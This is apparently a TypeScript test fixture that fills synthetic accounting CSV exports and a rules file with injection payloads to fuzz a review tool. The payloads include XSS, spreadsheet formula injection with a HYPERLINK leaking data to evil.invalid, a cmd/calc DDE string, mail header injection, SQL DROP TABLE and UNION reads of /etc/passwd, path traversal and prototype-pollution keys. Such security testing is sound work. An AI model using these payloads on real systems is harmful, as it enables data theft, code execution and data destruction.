import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type BaseExport, baseExport } from '../fuzz/base-exports.ts';
import { writeFiles } from '../fuzz/fuzz-lab.ts';
import { csvText } from '../fuzz/mutate/dialect.ts';
import { duewatch } from '../workflow/command.ts';

/** Runs when a page, a mail or a PDF takes it for markup or code. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  '</title></style></textarea></script><svg onload=alert(3)>',
  "'-alert(4)-'",
  '<a href="javascript:alert(5)">x</a>',
  '<iframe src="https://evil.invalid/"></iframe>',
  '#import "x"; $ sys.inputs $ #raw(read("/etc/passwd"))',
  '{{constructor.constructor("alert(6)")()}}',
] as const;

/** Runs when a spreadsheet takes it for a formula. */
export const FORMULAS = [
  '=HYPERLINK("https://evil.invalid/?"&A1,"pay here")',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)*cmd',
  '-2+3+cmd',
  '@SUM(1+9)',
  '\t=1+1',
] as const;

/** Changes what a mail, a log or a terminal says when it is taken as more than text. */
export const LINES = [
  'Ann\r\nBcc: victim@evil.invalid',
  'Ann\nContent-Type: text/html',
  'Ann\u001b[2J\u001b]0;owned\u0007',
  'Ann\n{"level":"INFO","message":"forged"}',
  'Ann\u202Egpj.exe',
  'Ann\u2028Ann',
] as const;

/** Leads elsewhere when it is taken for a path, SQL or a key of an object. */
export const NAMES = [
  '../../outside',
  '..\\..\\outside',
  "x'; DROP TABLE customer_month; --",
  "x' UNION SELECT * FROM read_text('/etc/passwd') --",
  'https://evil.invalid/x.csv',
  '__proto__',
  'constructor',
  'hasOwnProperty',
] as const;

/** All of them. */
export const PAYLOADS: readonly string[] = [...MARKUP, ...FORMULAS, ...LINES, ...NAMES];

/** What a hostile review left. */
export interface HostileRun {
  readonly status: number;
  readonly said: string;
  readonly files: ReadonlyMap<string, Buffer>;
  /** Everything below the folder that the review ran in. */
  readonly tree: readonly string[];
  readonly payloads: number;
}

/** Text columns of each table, with what they are filled with: ids keep a number so that they stay apart. */
const TEXT_COLUMNS: Readonly<Record<string, readonly string[]>> = {
  quickbooks__customer_analytics: [
    'customer_id',
    'display_name',
    'email',
    'profitability_tier',
    'account_manager',
    'lifecycle_stage',
    'payment_behavior',
  ],
  quickbooks__profitability_analysis: ['customer_id', 'invoice_id'],
  customers: ['customer_id', 'name', 'email', 'account_manager', 'country'],
  invoices: ['customer_id', 'invoice_id', 'doc_number', 'dispute_reason', 'status'],
  payments: ['customer_id', 'payment_id', 'invoice_id', 'method'],
  credits: ['customer_id', 'credit_id', 'invoice_id'],
};
const IDS = new Set(['customer_id', 'invoice_id', 'payment_id', 'credit_id']);

/** The same text always becomes the same payload, so that rows still find each other. */
class Disguise {
  readonly #known = new Map<string, string>();

  of(kind: string, text: string): string {
    const key = `${kind} ${text}`;
    const known = this.#known.get(key);
    if (known !== undefined) return known;
    const payload = PAYLOADS[this.#known.size % PAYLOADS.length] ?? '';
    const made = IDS.has(kind) && this.#known.size >= PAYLOADS.length ? `${payload}${this.#known.size}` : payload;
    this.#known.set(key, made);
    return made;
  }
}

function disguised({ tables }: BaseExport): (readonly [string, string])[] {
  const disguise = new Disguise();
  const dialect = {
    delimiter: ',',
    newline: '\n',
    quoteAll: true,
    mark: false,
    lastNewline: true,
    blankLines: false,
  } as const;
  return [...tables].map(([name, { header, rows }]) => {
    const hostile = TEXT_COLUMNS[name] ?? [];
    const cells = rows.map((row) =>
      row.map((text, at) => {
        const column = header[at] ?? '';
        return text !== '' && hostile.includes(column) ? disguise.of(column, text) : text;
      }),
    );
    return [`${name}.csv`, csvText({ header, rows: cells }, dialect)] as const;
  });
}

const RULES = `
company: { name: "Evil <script>alert(7)</script> & Co\\r\\nBcc: victim@evil.invalid", synthetic: true }
selection: { payment_rate_below_pct: 100, outstanding_above: 1 }
profitability_levels: { "=1+1": high }
landing: { max_quarantined_pct: 100 }
people:
  sender: { name: "Eve\\r\\nBcc: victim@evil.invalid", email: sender@example.com }
  recipients:
    - { name: "<b>Ann</b>\\r\\nCc: victim@evil.invalid", email: ann@example.com, locale: en }
    - { name: "=SUM(1)", email: bo@example.com, locale: zh-CN }
`;

/** A review of an export all of whose texts attack, in a folder of its own. Call `dispose` in the end. */
export async function hostileRun(profile: 'quickbooks-marts' | 'ledger'): Promise<HostileRun & { dispose(): void }> {
  const folder = mkdtempSync(join(tmpdir(), 'duewatch-attack-'));
  const base = baseExport(profile, 40, 60);
  writeFiles(join(folder, 'inner', 'export'), disguised(base));
  writeFiles(join(folder, 'inner'), [['rules.yaml', RULES]]);
  const inner = join(folder, 'inner');
  const argv = ['run', '--exports', join(inner, 'export'), '--store', join(inner, 'store'), '--period', '2025-09'];
  const { status, out, err } = await duewatch(
    ...argv,
    '--config',
    join(inner, 'rules.yaml'),
    '--out',
    join(inner, 'out'),
  );
  const tree = filesBelow(folder);
  const files = new Map(
    tree
      .filter((path) => path.startsWith('inner/out/'))
      .map((path) => [path.slice('inner/out/'.length), readFileSync(join(folder, path))] as const),
  );
  const dispose = (): void => rmSync(folder, { recursive: true, force: true });
  return { status, said: out + err, files, tree, payloads: PAYLOADS.length, dispose };
}

function filesBelow(folder: string): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name).slice(folder.length + 1));
}
